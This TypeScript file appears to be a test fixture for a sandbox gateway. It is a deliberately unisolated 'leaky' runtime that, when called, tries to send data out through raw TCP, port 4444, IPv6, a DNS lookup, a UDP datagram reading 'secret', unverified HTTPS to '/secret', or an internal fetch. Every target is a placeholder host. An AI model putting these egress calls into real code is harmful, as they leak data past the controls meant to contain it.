import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import type { EventEmitter } from 'node:events';
import { request } from 'node:https';
import { connect } from 'node:net';
import { createInterface } from 'node:readline';

// A cell behind a gateway that is a runtime with holes: a call's input names the way by which something leaves. It knows nothing of any table.

const never = (): void => undefined;

// not `once` of node:events, which rejects when there was an error before
const closed = (one: EventEmitter): Promise<void> => new Promise((resolve) => one.once('close', () => resolve()));

const tcp = async (port: number, host: string): Promise<void> => {
  const socket = connect(port, host).on('error', never);
  socket.end('not HTTP');
  await closed(socket);
};

const secure = async (host: string): Promise<void> => {
  const asked = request({ host, path: '/secret', rejectUnauthorized: false }).on('error', never);
  asked.end();
  await closed(asked);
};

const udp = async (host: string): Promise<void> => {
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.send('secret', 4444, host, resolve));
  socket.close();
};

const ways: Readonly<Record<string, () => Promise<unknown>>> = {
  nothing: async () => undefined,
  'a raw socket': () => tcp(80, '198.51.100.66'),
  'a raw socket to a port of its own': () => tcp(4444, '198.51.100.66'),
  'a raw socket over IPv6': () => tcp(25, '2001:db8::66'),
  'a name': () => lookup('secret.leak.test'),
  'a datagram': () => udp('198.51.100.66'),
  'HTTPS to an address': () => secure('198.51.100.66'),
  'a request': () => fetch('http://inside.test/'),
};

const send = (message: object): void => void process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);

const result = async (method: string, way: unknown): Promise<unknown> => {
  if (method === 'describe')
    return { runtime: { name: 'leaky', version: '1', engine: 'none', isolation: 'none', claims: [] }, evidence: 'gateway', seams: [] };
  if (method !== 'call') return {};
  await ways[String(way)]?.();
  return { status: 'returned', json: 'null' };
};

createInterface({ input: process.stdin }).on('line', (line) => {
  const { id, method, params } = JSON.parse(line) as { id: number; method: string; params: { input?: unknown } };
  void result(method, params.input).then(
    (value) => send({ id, result: value }),
    (cause: unknown) => send({ id, error: { code: -32000, message: String(cause) } }),
  );
});
